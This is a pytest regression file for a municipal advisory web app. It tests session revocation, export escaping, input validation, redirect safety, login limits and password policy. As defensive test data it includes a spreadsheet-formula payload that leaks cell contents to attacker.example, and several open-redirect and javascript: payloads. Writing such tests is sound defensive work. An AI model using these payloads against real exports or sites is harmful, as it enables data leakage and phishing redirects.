"""Regression tests for the defects of issue 13 (sessions, exports, inputs, limits, accounts)."""

from __future__ import annotations

import csv
import io
import json
import os
import re
import subprocess
import sys
import threading
from pathlib import Path

import pytest
from openpyxl import load_workbook
from sqlalchemy import select, update

from advisory.extensions import db
from advisory.inputs import parse_int, spreadsheet_cell, xml_safe
from advisory.models import Answer, AuditEvent, Role, User
from advisory.services.accounts import AccountError, check_password_policy
from advisory.views import is_safe_redirect
from tests.conftest import PASSWORD, Auth, make_config
from tests.test_assessments import VILLAGE, autosave, signed_in, stored

ROOT = Path(__file__).resolve().parents[1]
OTHER_PASSWORD = "Kaffee im Rathaus um sieben"


@pytest.fixture
def editor(app, make_user):
    return make_user(Role.MUNICIPAL_EDITOR, ags=VILLAGE)


@pytest.fixture
def admin(app, make_user):
    return make_user(Role.ADMIN)


@pytest.fixture
def inventory(app, editor, make_assessment) -> int:
    return make_assessment(VILLAGE, editor)


def replay(app, cookie: str):
    """A new client carrying a copied session cookie."""
    client = app.test_client()
    client.set_cookie("session", cookie)
    return client


# --- 1 sessions end on the server ---------------------------------------------------------------


def test_a_copied_cookie_gives_no_access_after_sign_out(app, editor, inventory):
    auth = signed_in(app, editor)
    cookie = auth.client.get_cookie("session").value
    assert replay(app, cookie).get(f"/assessments/{inventory}").status_code == 200
    auth.post("/logout", token_from="/")
    response = replay(app, cookie).get(f"/assessments/{inventory}")
    assert response.status_code == 302 and "/login" in response.headers["Location"]


def test_password_change_deactivation_and_admin_end_other_sessions(app, editor, admin, inventory):
    laptop, phone = signed_in(app, editor), signed_in(app, editor)
    phone_cookie = phone.client.get_cookie("session").value
    response = laptop.post(
        "/account/password",
        {"current_password": PASSWORD, "new_password": OTHER_PASSWORD},
    )
    assert response.status_code == 302
    assert laptop.client.get(f"/assessments/{inventory}").status_code == 200
    assert replay(app, phone_cookie).get(f"/assessments/{inventory}").status_code == 302

    boss = signed_in(app, admin)
    laptop_cookie = laptop.client.get_cookie("session").value
    boss.post(f"/admin/users/{editor.id}/sessions", token_from=f"/admin/users/{editor.id}")
    assert replay(app, laptop_cookie).get(f"/assessments/{inventory}").status_code == 302

    again = Auth(app.test_client())
    again.login(editor.email, OTHER_PASSWORD)
    cookie = again.client.get_cookie("session").value
    with app.app_context():
        user = db.session.get(User, editor.id)
        from advisory.services.accounts import update_user

        update_user(
            db.session,
            user,
            name=user.name,
            role=user.role,
            municipality=user.municipality,
            scopes=[],
            active=False,
            actor=db.session.get(User, admin.id),
        )
    assert replay(app, cookie).get(f"/assessments/{inventory}").status_code == 302


def test_a_sign_in_ends_after_a_working_day(app, editor, inventory):
    import datetime as dt

    from advisory.models import LoginSession, utcnow

    auth = signed_in(app, editor)
    assert auth.client.get(f"/assessments/{inventory}").status_code == 200
    with app.app_context():
        db.session.execute(update(LoginSession).values(created_at=utcnow() - dt.timedelta(hours=9)))
        db.session.commit()
    assert auth.client.get(f"/assessments/{inventory}").status_code == 302


# --- 2 and 3 exports ----------------------------------------------------------------------------

FORMULA = '=HYPERLINK("http://attacker.example/?leak="&C2,"x")'


def test_formulas_become_text_in_csv_and_xlsx(app, editor, inventory):
    auth = signed_in(app, editor)
    assert autosave(auth, inventory, "strategy.starter_note", FORMULA).status_code == 200
    assert autosave(auth, inventory, "skills.training_wishes", "@SUM(1+1)").status_code == 200
    rows = list(
        csv.reader(io.StringIO(auth.client.get(f"/assessments/{inventory}/report.csv").text))
    )
    cells = [cell for row in rows for cell in row]
    assert "'" + FORMULA in cells and "'@SUM(1+1)" in cells
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells)
    workbook = load_workbook(
        io.BytesIO(auth.client.get(f"/assessments/{inventory}/report.xlsx").data)
    )
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)


def test_control_characters_are_refused_at_input_and_stored_ones_do_not_break_xlsx(
    app, editor, inventory
):
    auth = signed_in(app, editor)
    response = autosave(auth, inventory, "strategy.starter_note", "vor\x01nach")
    assert response.status_code == 422
    assert "Steuerzeichen" in response.json["message"] or "control" in response.json["message"]
    assert stored(app, inventory, "strategy.starter_note") is None
    # Data stored before this check (or by other means) must not break the export.
    assert autosave(auth, inventory, "strategy.starter_note", "vorher").status_code == 200
    with app.app_context():
        db.session.execute(
            update(Answer)
            .where(Answer.question_id == "strategy.starter_note")
            .values(value="vor\x00nach\x0bende\x01")
        )
        db.session.commit()
    for fmt in ("xlsx", "csv", "json"):
        assert auth.client.get(f"/assessments/{inventory}/report.{fmt}").status_code == 200
    assert auth.client.get(f"/assessments/{inventory}/report").status_code == 200


def test_spreadsheet_cells_and_xml_helpers():
    assert spreadsheet_cell("=1+1") == "'=1+1"
    assert spreadsheet_cell("\t=1") == "'\t=1"
    assert spreadsheet_cell("-5 Personen") == "'-5 Personen"
    assert spreadsheet_cell("normal") == "normal"
    assert spreadsheet_cell(-5) == -5
    assert xml_safe("a\x00b\x0bc\ufffe") == "abc"


# --- 4 redirects --------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "target",
    [
        "//evil.example/",
        "/\t/evil.example/",
        "/%09/evil.example/".replace("%09", "\t"),
        "/\n/evil.example",
        "/\\evil.example",
        "\\/evil.example",
        "https://evil.example/",
        "javascript:alert(1)",
        " /x",
        "/ /evil",
        "/\x00",
        "",
        "evil.example",
        "///evil.example",
    ],
)
def test_unsafe_redirect_targets_are_refused(target):
    assert not is_safe_redirect(target)


@pytest.mark.parametrize("target", ["/", "/assessments/1?lang=de", "/catalogue/?q=a%20b#x"])
def test_local_paths_are_safe_redirects(target):
    assert is_safe_redirect(target)


def test_login_and_language_never_redirect_to_another_host(app, editor):
    auth = Auth(app.test_client())
    token = auth.csrf_token("/login")
    response = auth.client.post(
        "/login?next=/%09/evil.example/",
        data={
            "email": editor.email,
            "password": PASSWORD,
            "csrf_token": token,
            "next": "/\t/evil.example/",
        },
    )
    assert response.status_code == 302 and response.headers["Location"] == "/"
    response = auth.client.post(
        "/language",
        data={"language": "en", "next": "/\r\nevil", "csrf_token": auth.csrf_token("/")},
    )
    assert response.status_code in (302, 303) and response.headers["Location"] == "/"
    response = auth.client.get("/login?next=/%0A/evil.example/")
    assert response.status_code < 500


# --- 5 per-address limit and a lock that is not a weapon ----------------------------------------


def _attempt(client, email: str, password: str, address: str):
    return client.post(
        "/login",
        data={"email": email, "password": password},
        environ_base={"REMOTE_ADDR": address},
        headers={"Accept-Language": "en"},
    )


def test_sign_in_attempts_per_address_are_limited_across_workers(database_url, make_app, editor):
    config = make_config(database_url, LOGIN_RATE_LIMIT="5/minute", WTF_CSRF_ENABLED=False)
    worker_a, worker_b = make_app(config), make_app(config)
    codes = [
        _attempt(app.test_client(), f"x{i}@example.org", "wrong", "10.9.9.9").status_code
        for i, app in enumerate([worker_a, worker_b] * 3)
    ]
    assert codes[:5] == [422] * 5 and codes[5] == 429
    # Another address is not affected.
    assert _attempt(worker_a.test_client(), editor.email, PASSWORD, "10.9.9.8").status_code == 302


def test_a_stranger_cannot_lock_the_owner_out_and_an_admin_lifts_a_lock(app, editor, admin, runner):
    app.config["WTF_CSRF_ENABLED"] = False
    attacker = app.test_client()
    for _ in range(app.config["LOGIN_MAX_FAILURES"]):
        _attempt(attacker, editor.email, "wrong guess", "203.0.113.9")
    locked = _attempt(attacker, editor.email, PASSWORD, "203.0.113.9")
    assert locked.status_code == 422 and "paused" in locked.text
    # The owner, from their own address, signs in as usual.
    assert _attempt(app.test_client(), editor.email, PASSWORD, "198.51.100.7").status_code == 302
    # The owner's success does not end the stranger's pause at the stranger's address ...
    for _ in range(app.config["LOGIN_MAX_FAILURES"]):
        _attempt(attacker, editor.email, "wrong guess", "203.0.113.9")
    assert _attempt(attacker, editor.email, PASSWORD, "203.0.113.9").status_code == 422
    # ... but an administrator can lift it (CLI here, the page in the next test).
    result = runner.invoke(args=["unlock-user", editor.email])
    assert result.exit_code == 0, result.output
    assert _attempt(attacker, editor.email, PASSWORD, "203.0.113.9").status_code == 302


def test_admin_page_lifts_a_sign_in_pause(app, editor, admin):
    app.config["WTF_CSRF_ENABLED"] = False
    client = app.test_client()
    for _ in range(app.config["LOGIN_MAX_FAILURES"]):
        _attempt(client, editor.email, "wrong guess", "127.0.0.1")
    assert _attempt(client, editor.email, PASSWORD, "127.0.0.1").status_code == 422
    boss = signed_in(app, admin)
    response = boss.client.post(f"/admin/users/{editor.id}/unlock")
    assert response.status_code == 302
    assert _attempt(app.test_client(), editor.email, PASSWORD, "127.0.0.1").status_code == 302


# --- 6 password strength ------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("password", "code"),
    [
        ("123456789012", "password_weak"),
        ("aaaaaaaaaaaa", "password_weak"),
        ("passwortpasswort", "password_weak"),
        ("redaktion@albisheim.example.org", "password_personal"),
        ("Redaktion-Albisheim-1", "password_personal"),
        ("Demo-Passwort-2026", "password_published"),
        ("Demo-Passwort-2027!", "password_published"),
    ],
)
def test_common_and_context_derived_passwords_are_refused(password, code):
    with pytest.raises(AccountError) as refused:
        check_password_policy(
            password, email="redaktion@albisheim.example.org", name="Rita Redaktion"
        )
    assert str(refused.value) == code


def test_a_good_passphrase_is_accepted_and_the_page_explains_a_refusal(app, editor):
    check_password_policy(OTHER_PASSWORD, email=editor.email, name=editor.name)
    auth = signed_in(app, editor)
    response = auth.post(
        "/account/password",
        {"current_password": PASSWORD, "new_password": "123456789012"},
        headers={"Accept-Language": "en"},
    )
    assert response.status_code == 422
    assert "too easy to guess" in response.text


# --- 7 malformed numbers and ids ----------------------------------------------------------------


def test_malformed_numbers_get_a_clear_4xx(app, editor, inventory):
    auth = signed_in(app, editor)
    for revision in ("²", "9" * 5000, "-1", "1e3"):
        response = autosave(auth, inventory, "strategy.budget", "none", revision=revision)
        assert response.status_code == 422, revision
        assert response.json["message"]
    response = autosave(auth, inventory, "profile.staff_total", "9" * 400)
    assert response.status_code == 422
    token = auth.csrf_token(f"/assessments/{inventory}/sections/profile")
    response = auth.client.post(
        f"/assessments/{inventory}/answers/profile.goals",
        data={
            "csrf_token": token,
            "present-profile.goals": "1",
            "rev-profile.goals": "0",
            "q-profile.goals.climate": "²",
        },
        headers={"Accept": "application/json"},
    )
    assert response.status_code == 422
    whole_page = auth.client.post(
        f"/assessments/{inventory}/sections/strategy",
        data={
            "csrf_token": token,
            "present-strategy.budget": "1",
            "rev-strategy.budget": "²",
            "q-strategy.budget": "none",
        },
    )
    assert whole_page.status_code == 422
    response = auth.client.get("/catalogue/?population=²")
    assert (response.status_code == 400 and "whole number" in response.text) or "ganze Zahl" in (
        response.text
    )


@pytest.mark.parametrize(
    "path",
    [
        "/assessments/9223372036854775808",
        "/assessments/2147483648",
        "/assessments/99999999999999999999999",
        "/assessments/2147483648/report.xlsx",
        "/admin/users/9223372036854775807",
    ],
)
def test_ids_beyond_the_database_range_are_404(app, editor, path):
    auth = signed_in(app, editor)
    assert auth.client.get(path).status_code == 404


def test_nul_bytes_anywhere_get_a_clear_400(app, editor, admin, inventory):
    auth = signed_in(app, editor)
    response = auth.post(
        f"/assessments/{inventory}/sections/mobility/applicability",
        {"not_applicable": "1", "reason": "Kreis\x00aufgabe"},
        token_from=f"/assessments/{inventory}/sections/mobility",
    )
    assert (response.status_code == 400 and "control character" in response.text) or (
        "Steuerzeichen" in response.text
    )
    assert auth.client.get("/municipalities/0733\x00001").status_code == 400
    assert auth.client.get("/catalogue/?q=a\x00b").status_code == 400
    boss = signed_in(app, admin)
    response = boss.post(
        "/admin/users/new",
        {"email": "neu@example.org", "name": "Ne\x00u", "role": "admin", "password": "x"},
    )
    assert response.status_code == 400


def test_parse_int_accepts_only_plain_bounded_digits():
    assert parse_int("42") == 42
    assert parse_int("²") is None and parse_int("٣") is None and parse_int("1e3") is None
    assert parse_int("9" * 5000) is None and parse_int("") is None and parse_int(" 1") is None
    assert parse_int("11", high=10) is None and parse_int("-1") is None


# --- 8 no lost update after clearing ------------------------------------------------------------


def test_revisions_never_repeat_after_clearing(app, editor, make_user, inventory):
    colleague = make_user(Role.MUNICIPAL_EDITOR, ags=VILLAGE)
    first, second = signed_in(app, editor), signed_in(app, colleague)
    assert autosave(first, inventory, "strategy.budget", "none").json["revision"] == 1
    cleared = autosave(second, inventory, "strategy.budget", "", revision=1)
    assert cleared.status_code == 200 and cleared.json["revision"] == 2
    assert (
        autosave(second, inventory, "strategy.budget", "multi_year", revision=2).json["revision"]
        == 3
    )
    # The first editor's page still shows revision 1: a conflict, not an overwrite.
    stale = autosave(first, inventory, "strategy.budget", "case_by_case", revision=1)
    assert stale.status_code == 409 and stale.json["revision"] == 3
    assert stored(app, inventory, "strategy.budget") == ("answered", "multi_year", 3)


def test_clear_then_save_interleaved_by_two_editors_gives_409(app, editor, make_user, inventory):
    """Two colleagues act at the same moment on revision n: one clears, one saves."""
    colleague = make_user(Role.MUNICIPAL_EDITOR, ags=VILLAGE)
    clearer, saver = signed_in(app, editor), signed_in(app, colleague)
    revision = autosave(clearer, inventory, "strategy.budget", "none").json["revision"]
    for round_ in range(6):
        if stored(app, inventory, "strategy.budget") is None:
            answered = autosave(clearer, inventory, "strategy.budget", "none", revision=0)
            revision = answered.json["revision"]
        barrier = threading.Barrier(2)
        results: dict[str, int] = {}

        def act(name, auth, value, revision=revision, barrier=barrier, results=results):
            barrier.wait()
            results[name] = autosave(auth, inventory, "strategy.budget", value, revision=revision)

        threads = [
            threading.Thread(target=act, args=("clear", clearer, "")),
            threading.Thread(
                target=act, args=("save", saver, ("budget_line", "multi_year")[round_ % 2])
            ),
        ]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join()
        codes = sorted(r.status_code for r in results.values())
        assert codes == [200, 409], (round_, codes)
        # Whoever lost, still on the old revision, tries again: always a conflict.
        late = autosave(saver, inventory, "strategy.budget", "case_by_case", revision=revision)
        assert late.status_code == 409, round_
        revision = late.json["revision"]
    with app.app_context():
        from advisory.models import AnswerChange

        revisions = db.session.scalars(
            select(AnswerChange.revision).where(
                AnswerChange.assessment_id == inventory,
                AnswerChange.question_id == "strategy.budget",
            )
        ).all()
    assert len(revisions) == len(set(revisions)), revisions


# --- 9 import -----------------------------------------------------------------------------------


@pytest.fixture
def exported(app, editor, inventory) -> dict:
    auth = signed_in(app, editor)
    autosave(auth, inventory, "strategy.budget", "none")
    data = json.loads(auth.client.get(f"/assessments/{inventory}/report.json").data)
    with app.app_context():
        from advisory.models import Assessment, AssessmentStatus

        db.session.execute(
            update(Assessment)
            .where(Assessment.id == inventory)
            .values(status=AssessmentStatus.VALIDATED)
        )
        db.session.commit()
    return data


def test_the_export_follows_the_published_schema(exported):
    from jsonschema import Draft202012Validator

    from advisory.exports import export_schema

    Draft202012Validator(export_schema()).validate(exported)
    assert "export-format.schema.json" in (ROOT / "docs" / "export-format.md").read_text()


def _broken(data: dict, change) -> dict:
    copy = json.loads(json.dumps(data))
    change(copy)
    return copy


def _answer(question: str, value) -> dict:
    return {question: {"status": "answered", "value": value}}


def _domain(**state) -> dict:
    return {"domains": {"mobility": state}}


@pytest.mark.parametrize(
    ("change", "message"),
    [
        (lambda d: d.update(municipality="07333001"), "municipality"),
        (lambda d: d["answers"].update(_answer("strategy.budget", [[[[[[[[[[]]]]]]]]]])), "nested"),
        (lambda d: d["answers"].update(_answer("profile.staff_total", int("9" * 400))), "staff"),
        (lambda d: d.update(_domain(not_applicable=True, reason="  ")), "domains.mobility"),
        (lambda d: d.update(_domain(not_applicable=False, target_level=True)), "target_level"),
        (lambda d: d.update(_domain(not_applicable=True, reason="x" * 5_000_000)), "bytes"),
        (lambda d: d.update(_domain(not_applicable=True, reason="a\x00b")), "reason"),
    ],
)
def test_import_refuses_what_the_web_forms_refuse(app, runner, exported, tmp_path, change, message):
    file = tmp_path / "import.json"
    file.write_text(json.dumps(_broken(exported, change)), encoding="utf-8")
    result = runner.invoke(args=["import", str(file)])
    assert result.exit_code == 1, result.output
    assert message in result.output and "Traceback" not in result.output


def test_deeply_nested_files_are_refused_without_a_crash(app, runner, tmp_path):
    file = tmp_path / "deep.json"
    file.write_text("[" * 100_000 + "]" * 100_000)
    result = runner.invoke(args=["import", str(file)])
    assert result.exit_code == 1 and "Error:" in result.output


def test_import_checks_the_user_against_the_municipality(
    app, runner, exported, tmp_path, make_user
):
    stranger = make_user(Role.MUNICIPAL_EDITOR, ags="08115021")
    file = tmp_path / "import.json"
    file.write_text(json.dumps(exported), encoding="utf-8")
    result = runner.invoke(args=["import", str(file), "--user", stranger.email])
    assert result.exit_code == 1 and "may not edit" in result.output
    result = runner.invoke(args=["import", str(file)])
    assert result.exit_code == 0, result.output


# --- 10 gunicorn configuration ------------------------------------------------------------------


def test_the_shipped_gunicorn_configuration_is_used_and_documented():
    from advisory import gunicorn_conf

    assert gunicorn_conf.worker_class == "gthread" and gunicorn_conf.threads >= 2
    assert gunicorn_conf.timeout >= 90 and gunicorn_conf.graceful_timeout >= 30
    assert "python:advisory.gunicorn_conf" in (ROOT / "README.md").read_text()
    assert "python:advisory.gunicorn_conf" in (ROOT / ".ci" / "run").read_text()
    result = subprocess.run(
        [Path(sys.executable).parent / "gunicorn", "--check-config", "--print-config",
         "-c", "python:advisory.gunicorn_conf", "advisory:create_app()"],
        capture_output=True, text=True, cwd=ROOT, check=False,
        env={**os.environ, "ADVISORY_SECRET_KEY": "k" * 40, "ADVISORY_DEBUG": "1"},
    )  # fmt: skip
    assert re.search(r"^worker_class\s+= gthread$", result.stdout, re.M), result.stderr[-2000:]


# --- 11 headers ---------------------------------------------------------------------------------


def test_hsts_over_https_only_and_configurable(app, database_url, make_app):
    client = app.test_client()
    assert "Strict-Transport-Security" not in client.get("/login").headers
    secure = client.get("/login", base_url="https://localhost").headers
    assert secure["Strict-Transport-Security"].startswith("max-age=31536000")
    off = make_app(make_config(database_url, HSTS_SECONDS=0)).test_client()
    assert (
        "Strict-Transport-Security" not in off.get("/login", base_url="https://localhost").headers
    )


def test_json_is_not_cached_and_a_conflict_tells_only_what_the_dialog_needs(
    app, editor, make_user, inventory
):
    assert app.test_client().get("/health").headers["Cache-Control"] == "no-store"
    colleague = make_user(Role.MUNICIPAL_EDITOR, ags=VILLAGE)
    first, second = signed_in(app, editor), signed_in(app, colleague)
    autosave(first, inventory, "strategy.budget", "none")
    conflict = autosave(second, inventory, "strategy.budget", "multi_year", revision=0)
    assert conflict.status_code == 409
    assert set(conflict.json) == {"status", "revision", "theirs", "by", "answer"}
    assert conflict.headers["Cache-Control"] == "no-store"


# --- 12 the command line without a secret key ---------------------------------------------------


def test_help_lists_every_command_without_a_secret_key():
    env = {k: v for k, v in os.environ.items() if not k.startswith("ADVISORY_")}
    result = subprocess.run(
        [Path(sys.executable).parent / "advisory", "--help"],
        capture_output=True, text=True, env=env, check=False, cwd=ROOT,
    )  # fmt: skip
    assert result.returncode == 0
    for command in ("import-municipalities", "create-user", "reset-password", "unlock-user",
                    "end-sessions", "seed-demo", "check-content", "score", "report", "import",
                    "db"):  # fmt: skip
        assert f"  {command} " in result.stdout, command
    assert "ADVISORY_SECRET_KEY" in result.stderr and "Traceback" not in result.stderr


# --- accounts -----------------------------------------------------------------------------------


def test_a_password_set_by_an_admin_must_be_changed_at_the_next_sign_in(
    app, editor, admin, inventory, runner
):
    boss = signed_in(app, admin)
    response = boss.post(
        f"/admin/users/{editor.id}/password", {"password": "Gießkanne am Marktbrunnen"}
    )
    assert response.status_code == 302
    auth = Auth(app.test_client())
    response = auth.login(editor.email, "Gießkanne am Marktbrunnen")
    assert response.headers["Location"] == "/account/password"
    assert auth.client.get(f"/assessments/{inventory}").headers["Location"] == "/account/password"
    auth.post(
        "/account/password",
        {"current_password": "Gießkanne am Marktbrunnen", "new_password": OTHER_PASSWORD},
    )
    assert auth.client.get(f"/assessments/{inventory}").status_code == 200
    # The same from the command line.
    result = runner.invoke(
        args=["reset-password", editor.email, "--password", "Laterne vor dem Bürgerhaus"]
    )
    assert result.exit_code == 0, result.output
    with app.app_context():
        assert db.session.get(User, editor.id).must_change_password


def test_accounts_created_by_an_admin_must_choose_their_own_password(app, admin, municipality):
    boss = signed_in(app, admin)
    response = boss.post(
        "/admin/users/new",
        {
            "email": "neu@example.org",
            "name": "Nora Neu",
            "role": "municipal_editor",
            "municipality": VILLAGE,
            "password": "Drei Tassen Tee am Morgen",
        },
    )
    assert response.status_code == 302
    auth = Auth(app.test_client())
    assert (
        auth.login("neu@example.org", "Drei Tassen Tee am Morgen").headers["Location"]
        == "/account/password"
    )


def test_the_security_log_is_readable_and_names_who_did_what(app, admin, editor):
    boss = signed_in(app, admin)
    boss.post(
        f"/admin/users/{editor.id}",
        {"name": "Erika Neu", "role": "advisor", "scopes": "07", "active": "y"},
    )
    page = boss.client.get("/admin/audit", headers={"Accept-Language": "de"}).text
    assert "Rolle oder Zuständigkeit geändert" in page or "Role or scope changed" in page
    assert admin.email in page and editor.email in page
    assert "\\u" not in page and "{&#34;" not in page and '{"' not in page
    assert "→" in page
    with app.app_context():
        kinds = set(db.session.scalars(select(AuditEvent.kind)))
    assert {"name_changed", "role_changed"} <= kinds
